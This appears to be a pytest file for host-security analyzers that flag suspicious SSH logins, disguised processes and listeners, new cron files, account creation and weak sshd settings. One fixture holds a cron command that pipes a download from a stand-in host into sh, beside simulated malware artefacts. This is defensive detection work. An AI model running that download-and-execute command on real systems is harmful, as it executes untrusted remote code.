"""Security verdicts are never falsely reassuring (issue 12 §3): evidence of access is a finding."""

from __future__ import annotations

from collections.abc import Mapping

from datetime import UTC, datetime

from squads.bundle_code import load_analyzers
from squads.brain.analyzers import Output
from squads.brain.models import Analysis, Severity
from squads.grants import BUILTIN_BUNDLES as BUNDLES_DIR

TABLE = load_analyzers(BUNDLES_DIR / "security")


def run(name: str, stdout: str, argv: list[str] | None = None, exit_code: int = 0, stderr: str = "",
        facts: Mapping[str, object] | None = None) -> Analysis:
    output = Output(argv=argv or ["journalctl", "-u", "ssh"], exit_code=exit_code, stdout=stdout, stderr=stderr)
    return TABLE[name].fn(output, dict(facts or {}))


def codes(result: Analysis) -> set[str]:
    return {f.code for f in result.findings}


ROOT_KEY = (
    "Dec 07 03:14:22 bastion-1 sshd[40211]: Accepted publickey for root from 45.155.205.233 port 52214 ssh2: "
    "ED25519 SHA256:Qm9vZ2xlIGl0IG5vdCBhIHJlYWwga2V5IGJ1dCBjbG9zZQ\n"
    "Dec 07 03:14:22 bastion-1 sshd[40211]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)\n"
)


def test_a_root_login_by_key_from_an_unknown_public_address_is_the_cause() -> None:
    result = run("sec.ssh_log", ROOT_KEY)
    root = [f for f in result.findings if f.code == "ssh_root_login"]
    assert root and root[0].severity == Severity.CAUSE
    assert "45.155.205.233" in root[0].text and "Accepted publickey for root" in root[0].text
    accepted = next(f for f in result.findings if f.code == "ssh_accepted")
    assert "no attempt succeeded" not in accepted.text


def test_a_service_account_key_login_is_a_compromise() -> None:
    log = "Dec 07 02:01:10 web-4 sshd[991]: Accepted publickey for www-data from 91.215.85.17 port 40022 ssh2: RSA SHA256:abc\n"
    assert "ssh_service_account_login" in codes(run("sec.ssh_log", log))


def test_a_login_right_after_a_burst_of_failures_from_another_address() -> None:
    lines = [f"Dec 07 11:0{i % 10}:1{i % 10} app-5 sshd[{500 + i}]: Failed password for deploy from 185.224.128.{80 + i % 3} port {40000 + i} ssh2"
             for i in range(12)]
    lines.append("Dec 07 11:07:40 app-5 sshd[777]: Accepted password for deploy from 10.0.4.9 port 51000 ssh2")
    result = run("sec.ssh_log", "\n".join(lines))
    assert "ssh_login_after_failures" in codes(result)


def test_an_ordinary_login_from_a_private_address_is_not_flagged() -> None:
    log = ("Dec 07 09:00:01 app-5 sshd[700]: Accepted publickey for alice from 10.8.0.14 port 50100 ssh2: ED25519 SHA256:x\n"
           "Dec 07 10:00:01 app-5 sshd[701]: Accepted publickey for alice from 10.8.0.14 port 50111 ssh2: ED25519 SHA256:x\n")
    result = run("sec.ssh_log", log)
    assert not codes(result) & {"ssh_root_login", "ssh_login_new_source", "ssh_service_account_login"}


def test_no_journal_files_is_no_data_not_zero_failed_logins() -> None:
    result = run("sec.ssh_log", "No journal files were found.\n-- No entries --\n")
    assert codes(result) == {"no_data"} and result.facts["ssh_log_empty"] is True
    assert "failed login" not in result.summary


def test_a_host_without_systemd_is_unavailable() -> None:
    result = run("sec.ssh_log", "", exit_code=1, stderr="System has not been booted with systemd as init system (PID 1). Can't operate.")
    assert result.facts.get("unavailable") is True and "no_data" in codes(result)


def test_preauth_scanner_noise_is_called_noise_and_says_nobody_got_in() -> None:
    log = "\n".join([
        "2026-12-07T10:58:42.131713+00:00 mail-1 sshd[412005]: banner exchange: Connection from 167.94.138.44 port 54315: invalid format",
        "2026-12-07T11:00:52.772618+00:00 mail-1 sshd[412088]: kex_exchange_identification: read: Connection reset by peer",
        "2026-12-07T11:01:13.004411+00:00 mail-1 sshd[412090]: Connection closed by authenticating user root 218.92.0.112 port 36075 [preauth]",
        "2026-12-07T11:02:13.004411+00:00 mail-1 sshd[412091]: Connection closed by authenticating user root 218.92.0.112 port 36077 [preauth]",
    ])
    noise = next(f for f in run("sec.ssh_log", log).findings if f.code == "ssh_preauth_noise")
    assert "never authenticated" in noise.text and "nobody got in" in noise.text


def test_a_listener_named_like_a_kernel_thread_comes_first() -> None:
    ss = ("Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n"
          'tcp   LISTEN 0      128    0.0.0.0:22         0.0.0.0:*     users:(("sshd",pid=880,fd=3))\n'
          'tcp   LISTEN 0      5      0.0.0.0:31337      0.0.0.0:*     users:(("kworker",pid=6613,fd=4))\n')
    result = run("sec.listeners", ss, argv=["ss", "-ltnup"])
    assert result.findings[0].code == "listener_disguised" and result.facts["listener_pids"] == ["6613"]


def test_a_deleted_program_and_a_disguised_process() -> None:
    ps = ("    PID    PPID USER         ELAPSED COMMAND\n"
          "      2       0 root     41-03:12:08 [kthreadd]\n"
          "     97       2 root     41-03:12:07 [kswapd0]\n"
          "  31877       1 www-data  2-07:14:09 [kswapd0]\n")
    result = run("sec.processes", ps, argv=["ps", "-eo", "pid,ppid,user,etime,args"])
    assert codes(result) == {"process_disguised"} and result.facts["suspicious_pids"] == ["31877"]
    exe = "lrwxrwxrwx 1 www-data www-data 0 Dec  5 04:58 /proc/31877/exe -> /var/tmp/.font-unix/kswapd0 (deleted)\n"
    assert "exe_deleted" in codes(run("sec.process_program", exe, argv=["ls", "-l", "/proc/31877/exe"]))


def test_a_cron_child_that_pipes_a_download_into_a_shell() -> None:
    ps = ("    PID    PPID USER         ELAPSED COMMAND\n"
          "  52011     598 root           03:02 /usr/sbin/CRON -f -P\n"
          "  52013   52011 root           03:02 /bin/sh -c curl -fsSL http://203.0.113.66:8081/lr.sh | sh >/dev/null 2>&1\n")
    finding = next(f for f in run("sec.processes", ps).findings if f.code == "process_download_exec")
    assert "cron job" in finding.text and "203.0.113.66" in finding.text


def test_a_new_file_in_cron_d_among_old_ones() -> None:
    ls = ("total 36\n"
          "drwxr-xr-x   2 root root 4096 Dec  6 03:12 .\n"
          "-rw-r--r--   1 root root  420 Jun  5  2025 certbot\n"
          "-rw-r--r--   1 root root  201 Jan  8  2022 e2scrub_all\n"
          "-rw-r--r--   1 root root  118 Dec  6 03:12 logrotate-hourly\n")
    now = datetime(2026, 12, 7, 12, 0, tzinfo=UTC)
    result = run("sec.cron_dir", ls, argv=["ls", "-la", "/etc/cron.d"], facts={"now": now})
    assert [f.data.get("path") for f in result.findings if f.code == "cron_new_file"] == ["/etc/cron.d/logrotate-hourly"]


def test_an_account_created_by_a_package_vs_by_a_person() -> None:
    log = ("Dec  6 22:42:31 api-2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get install -y prometheus-node-exporter\n"
           "Dec  6 22:42:40 api-2 useradd[81247]: new user: name=prometheus, UID=998, GID=998, home=/var/lib/prometheus, shell=/usr/sbin/nologin, from=none\n"
           "Dec  7 01:02:03 api-2 sudo:    bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash helper\n"
           "Dec  7 01:02:03 api-2 useradd[90001]: new user: name=helper, UID=1005, GID=1005, home=/home/helper, shell=/bin/bash, from=/dev/pts/1\n")
    result = run("sec.ssh_log", log, argv=["tail", "-n", "1000", "/var/log/auth.log"])
    package = next(f for f in result.findings if f.code == "account_created_package")
    person = next(f for f in result.findings if f.code == "account_created_person")
    assert package.severity == Severity.INFO and "alice" in package.text and "cannot log in" in package.text
    assert person.severity == Severity.PROBLEM and "bob" in person.text


def test_sshd_forwarding_exposures_and_root_with_passwords() -> None:
    config = "permitrootlogin yes\npasswordauthentication yes\ngatewayports yes\npermittunnel yes\nallowtcpforwarding yes\n"
    result = run("sec.sshd", config, argv=["sshd", "-T"])
    assert {"sshd_root_password", "sshd_gatewayports", "sshd_permittunnel", "sshd_allowtcpforwarding"} <= codes(result)
    assert "sshd_ok" not in codes(result)
